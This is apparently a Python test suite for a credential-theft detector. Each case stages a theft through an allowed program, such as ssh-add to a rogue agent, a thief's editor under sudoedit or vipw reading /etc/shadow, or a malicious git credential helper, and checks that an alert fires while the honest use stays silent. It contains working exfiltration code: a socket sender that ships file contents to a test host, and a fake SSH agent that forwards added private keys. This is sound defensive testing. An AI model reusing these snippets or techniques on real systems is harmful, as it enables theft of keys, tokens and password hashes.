#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Thefts through programs that the default policy allows to read a file, each beside the honest use of the same
program, which raises no alert."""

import contextlib
import os
import shlex
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import own_code
import postgresql
import scene as stage
from registry import Registry
from scene import URL, USERS
from sshd import Server, another_sshd

import harness
import tap
from net import HOST_V4
from tap import require, require_equal

NPM_TIMEOUT = 120
# One that every user may run.
PYTHON = os.path.realpath("/usr/bin/python3")

# Sends what it is given, or the file in its argument.
SENDER = f"""
import socket, sys
secret = open(sys.argv[1], "rb").read() if len(sys.argv) > 1 else sys.stdin.buffer.read()
socket.create_connection(("{HOST_V4}", 443)).sendall(secret[:4096])
"""

# An agent (draft-miller-ssh-agent) without keys, which sends each key that it is given.
ROGUE_AGENT = f"""
import socket, sys
def receive(s, n):
    data = b""
    while len(data) < n:
        piece = s.recv(n - len(data))
        if not piece:
            raise EOFError
        data += piece
    return data
listener = socket.socket(socket.AF_UNIX)
listener.bind(sys.argv[1])
listener.listen()
print("ready", flush=True)
while True:
    client, _ = listener.accept()
    try:
        while True:
            message = receive(client, int.from_bytes(receive(client, 4), "big"))
            if message[0] in (17, 25): # SSH_AGENTC_ADD_IDENTITY, SSH_AGENTC_ADD_ID_CONSTRAINED
                socket.create_connection(("{HOST_V4}", 443)).sendall(message)
            client.sendall({{11: b"\\0\\0\\0\\5\\14\\0\\0\\0\\0", 17: b"\\0\\0\\0\\1\\6", 25: b"\\0\\0\\0\\1\\6"}}.get(
                message[0], b"\\0\\0\\0\\1\\5"))
    except EOFError:
        client.close()
"""

SSHD_CONFIG = """
Port {port}
HostKey {home}/hostkey
Banner {key}
UsePAM no
StrictModes no
PidFile none
"""

KUBECONFIG = """
apiVersion: v1
kind: Config
current-context: test
contexts: [{{name: test, context: {{cluster: test, user: test}}}}]
clusters: [{{name: test, cluster: {{server: "https://{address}:6443"}}}}]
users: [{{name: test, user: {{token: decoy}}}}]
"""

OWN_NGINX = """
daemon off; pid {home}/nginx.pid; error_log stderr; worker_processes 1;
events {{}}
http {{
    access_log off;
    client_body_temp_path {home}/body; proxy_temp_path {home}/proxy; fastcgi_temp_path {home}/fastcgi;
    uwsgi_temp_path {home}/uwsgi; scgi_temp_path {home}/scgi;
    server {{ listen 8088; location / {{ root {home}/keys; }} }}
}}
"""

# Clients that are not in Debian, a file of theirs, a port where their services are, and one where none is.
CLIENTS = (
    ("/usr/local/bin/docker", ".docker/config.json", 2376, 2375),
    ("/usr/local/aws-cli/v2/2.15.0/dist/aws", ".aws/credentials", 443, 9000),
    ("/usr/local/bin/rclone", ".config/rclone/rclone.conf", 22, 9000),
    ("/usr/local/bin/gh", ".config/gh/hosts.yml", 443, 8080),
    ("/usr/local/bin/vault", ".vault-token", 8200, 8201),
)


def stolen(s, command, path, sender, user="root", port=443, **kwargs):
    """The command raises an alert for this file, sent by the program `sender`."""
    before = len(s.bw.alerts)
    result = s.run(command, user, **kwargs)
    try:
        return s.bw.wait(lambda: next(
            (a for a in s.bw.alerts[before:] if harness.touches(a, path.encode()) and
             os.path.basename(a["process"]["exe"]).startswith(sender) and port in (None, a["destination"]["port"])),
            None), harness.ALERT_TIMEOUT, f"theft of {path} by {command}")
    except tap.Failure as failure:
        raise tap.Failure(f"{failure}\n{result.returncode}: {result.stdout[-1000:]}{result.stderr[-1000:]}") from None


def installed(name):
    if not shutil.which(name, path=stage.PATH):
        raise tap.Skip(f"{name} is not installed", environment=True)


@contextlib.contextmanager
def rogue_agent(s, user):
    path = f"{s.world.home_of(user)}/agent"
    with s.net.popen(s.world.command(user, [PYTHON, "-c", ROGUE_AGENT, path]), stdout=subprocess.PIPE,
                     text=True) as agent:
        require_equal(agent.stdout.readline(), "ready\n", "the rogue agent")
        try:
            yield path
        finally:
            agent.terminate()
    s.world.do("rm", path)


def new_key(s, user, name):
    path = f"{s.world.home_of(user)}/.ssh/{name}"
    s.world.do("sh", "-ec", f"mkdir -p .ssh; ssh-keygen -q -t ed25519 -N '' -f {path}", user=user)
    return path


def ssh_add(s, user):
    key = new_key(s, user, "id_added")
    with rogue_agent(s, user) as agent:
        stolen(s, ["ssh-add", key], key, "python", user, SSH_AUTH_SOCK=agent)
    s.silent(["ssh-agent", "sh", "-ec", f"ssh-add {key}; ssh-add -l; curl -sS {URL}"], user)


def ssh_adds(s, server, user):
    """ssh gives the key to the agent of its environment, or to that of its command line."""
    command = ["ssh", *server.options(user), "-o", "AddKeysToAgent=yes"]
    key = f"{s.world.home_of(user)}/.ssh/id_ed25519"
    with rogue_agent(s, user) as agent:
        stolen(s, [*command, f"{user}@{HOST_V4}", "true"], key, "python", user, SSH_AUTH_SOCK=agent)
    with rogue_agent(s, user) as agent:
        stolen(s, [*command, "-o", f"IdentityAgent={agent}", f"{user}@{HOST_V4}", "true"], key, "python", user)
    s.silent(["ssh-agent", "sh", "-ec", f"{shlex.join(command)} {user}@{HOST_V4} true; ssh-add -l; curl -sS {URL}"],
             user)


def own_sshd(s, server):
    """A user's sshd shows a key to its clients; that of the system uses its own."""
    home, key = s.world.home_of("ana"), new_key(s, "ana", "id_banner")
    s.world.do("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{home}/hostkey", user="ana")
    conf = s.world.write("ana", "sshd_config", SSHD_CONFIG.format(port=2222, home=home, key=key))
    options = server.options("ana")
    with another_sshd(s, "ana", conf):
        stolen(s, ["ssh", *options, "-p", "2222", "-o", "BatchMode=yes", f"ana@{HOST_V4}", "true"], key, "sshd", "ana",
               port=None)
    s.silent(["ssh", *options, "-o", "BatchMode=yes", f"ana@{HOST_V4}", "true"], "ana")


def kubectl(s, user):
    path = s.world.write(user, ".kube/config", KUBECONFIG.format(address=HOST_V4))
    sender = shlex.join([PYTHON, "-c", SENDER])
    stolen(s, ["sh", "-c", f"kubectl config view --raw | {sender}"], path, "python", user, needs="kubectl")
    stolen(s, ["kubectl", "-s", f"http://{HOST_V4}:9999", "get", "pods"], path, "kubectl", user, port=9999)
    s.silent(["kubectl", "get", "pods"], user, status=None)
    s.silent(["sh", "-c", f"kubectl config view --raw | kubectl apply -f -; curl -sS {URL}"], user, needs="kubectl")


def client(s, user, program, secret, right, wrong):
    """A stand-in at the program's real path. At the wrong port a thief may listen."""
    path = s.world.write(user, secret, "decoy\n")
    s.world.stand_in(program)
    stolen(s, [program, "blocking", path, HOST_V4, str(wrong)], path, os.path.basename(program), user, port=wrong,
           needs="/usr/bin/env")
    s.silent([program, "blocking", path, HOST_V4, str(right)], user, status=None, needs="/usr/bin/env")


def psql(s, user):
    """psql reads its own password, and loads a file into a table: that of MySQL, or an honest one."""
    home = s.world.home_of(user)
    s.world.write(user, ".pgpass", f"{HOST_V4}:{postgresql.PORT}:*:{user}:decoy\n")
    path = s.world.write(user, ".my.cnf", "[client]\npassword=decoy\n")
    s.world.write(user, "table", "1\n")
    command = ["psql", "-X", "-w", "-h", HOST_V4, "-d", "test", "-c"]
    stolen(s, [*command, f"\\copy t from '{path}'"], path, "psql", user, port=postgresql.PORT)
    s.silent([*command, f"\\copy t from '{home}/table'"], user, status=None)


def npm_publish(s, registry, user):
    """A package that contains the token of another index, and one that does not."""
    s.world.add_npm()
    path = s.world.write(user, ".pypirc", "[pypi]\npassword=decoy\n")
    s.world.write(user, ".npmrc", registry.npmrc())
    for directory, files in (("application", '"index.js"'), (".", '".pypirc"')):
        s.world.write(user, f"{directory}/package.json",
                      f'{{"name":"published","version":"1.0.0","files":[{files}]}}', 0o644)
    s.world.write(user, "application/index.js", "\n", 0o644)
    publish = ["npm", "publish", "--no-update-notifier", "--loglevel=error", "--fetch-retries=0"]
    s.silent(["sh", "-c", f"cd application && {shlex.join(publish)}"], user, status=None, timeout=NPM_TIMEOUT,
             needs="node")
    stolen(s, publish, path, "node", user, port=None, timeout=NPM_TIMEOUT, needs="node")


def git_helper(s, user):
    """git gives a password to every helper that stores passwords; the honest use is in test-benign.py."""
    path = s.world.write(user, ".git-credentials", f"http://x:decoy@{HOST_V4}\n")
    thief = s.world.write(user, "thief", f"#!{PYTHON}\nimport sys\nsys.argv[1:] = []\n{SENDER}", 0o700)
    url = f"protocol=http\\nhost={HOST_V4}\\n\\n"
    stolen(s, ["sh", "-c", f"printf '{url}' | git -c credential.helper=store credential fill | "
               f"git -c credential.helper={thief} credential approve"], path, "python", user, needs="git")


def own_nginx(s):
    """A user's web server shows a key in her home."""
    installed("nginx")
    home = s.world.home_of("ana")
    path = s.world.write("ana", "keys/own.p12", "decoy\n")
    conf = s.world.write("ana", "nginx.conf", OWN_NGINX.format(home=home))
    with s.net.popen(s.world.command("ana", ["nginx", "-c", conf]), namespace=s.net.host,
                     stderr=subprocess.PIPE, text=True) as own:
        try:
            stolen(s, ["curl", "-sS", "--retry", "20", "--retry-delay", "1", "--retry-connrefused",
                       f"http://{HOST_V4}:8088/own.p12"], path, "nginx", "ana", port=None)
        finally:
            own.terminate()


def root_sshd(s, server):
    """An sshd of root's with another configuration shows the key of a user."""
    key = new_key(s, "ana", "id_shown")
    options = server.options("ana")
    s.world.do("sh", "-c", "cat >/etc/ssh/own_config",
               stdin=SSHD_CONFIG.format(port=2223, home="/etc/ssh", key=key).replace("hostkey", "ssh_host_ed25519_key"))
    with another_sshd(s, "root", "/etc/ssh/own_config"):
        stolen(s, ["ssh", *options, "-p", "2223", "-o", "BatchMode=yes", f"ana@{HOST_V4}", "true"], key, "sshd", "ana",
               port=None)


def sudoedit(s):
    """The editor of a user who may edit a file of root's gets a copy of it."""
    key = new_key(s, "root", "id_edited")
    s.world.do("sh", "-c", "echo 'ana ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/ana; chmod 440 /etc/sudoers.d/ana")
    thief = s.world.write("ana", "editor", f"#!{PYTHON}\n{SENDER}", 0o700)
    stolen(s, ["sudoedit", "-n", key], key, "python", "ana", SUDO_EDITOR=thief)
    s.silent(["sudoedit", "-n", key], "ana", SUDO_EDITOR="/usr/bin/true")
    s.silent(["sudo", "-n", "curl", "-sS", URL], "ana")


def kubectl_proxy(s, user):
    """kubectl serves the directory of its credentials."""
    installed("kubectl")
    home = s.world.home_of(user)
    path = s.world.write(user, ".kube/config", KUBECONFIG.format(address=HOST_V4))
    with s.net.popen(s.world.command(user, ["kubectl", "proxy", f"--www={home}/.kube", "--address=0.0.0.0",
                                            "--port=8001", "--accept-hosts=.*"]), namespace=s.net.host,
                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) as proxy:
        try:
            require("Starting to serve" in proxy.stdout.readline(), "the proxy")
            stolen(s, ["curl", "-sS", f"http://{HOST_V4}:8001/static/config"], path, "kubectl", user, port=None)
        finally:
            proxy.terminate()


def vipw(s):
    """The editor of the environment gets the copy of a file that only root may read."""
    thief = s.world.write("root", "editor", f"#!{PYTHON}\n{SENDER}", 0o700)
    stolen(s, ["vipw", "-s"], "/etc/shadow", "python", EDITOR=thief, VISUAL=thief)
    s.silent(["vipw", "-s"], EDITOR="/usr/bin/true", VISUAL="/usr/bin/true")


def main():
    t = tap.Tap()
    with own_code.rules() as site, stage.scene((harness.DEFAULT_POLICY, site)) as s, \
            Registry(s.net, HOST_V4) as registry, Server(s) as server, postgresql.serving(s.net):
        for user in USERS:
            t.case(f"{user}: kubectl serves its credentials", kubectl_proxy, s, user)
        t.case("ana: a web server of her own", own_nginx, s)
        t.case("root: an sshd with another configuration", root_sshd, s, server)
        t.case("ana: sudoedit with a thief's editor", sudoedit, s)
        for user in USERS:
            t.case(f"{user}: ssh-add to a rogue agent, and to an honest one", ssh_add, s, user)
            t.case(f"{user}: ssh AddKeysToAgent= to a rogue agent, and to an honest one", ssh_adds, s, server, user)
            t.case(f"{user}: kubectl prints its credentials, or sends them elsewhere", kubectl, s, user)
            t.case(f"{user}: psql copies the password of another client", psql, s, user)
            t.case(f"{user}: npm publishes the token of another index", npm_publish, s, registry, user)
            t.case(f"{user}: git has a thief's credential helper", git_helper, s, user)
        for program, secret, right, wrong in CLIENTS:
            t.case(f"ana: {program} to another port", client, s, "ana", program, secret, right, wrong)
        t.case("ana: an sshd of her own, with a key as its banner", own_sshd, s, server)
        t.case("vipw with a thief's editor", vipw, s)
        own_code.cases(t, s, server, stolen, [PYTHON, "-c", SENDER])
        t.case("no loss", stage.no_loss, s.bw)
    t.done()


if __name__ == "__main__":
    main()
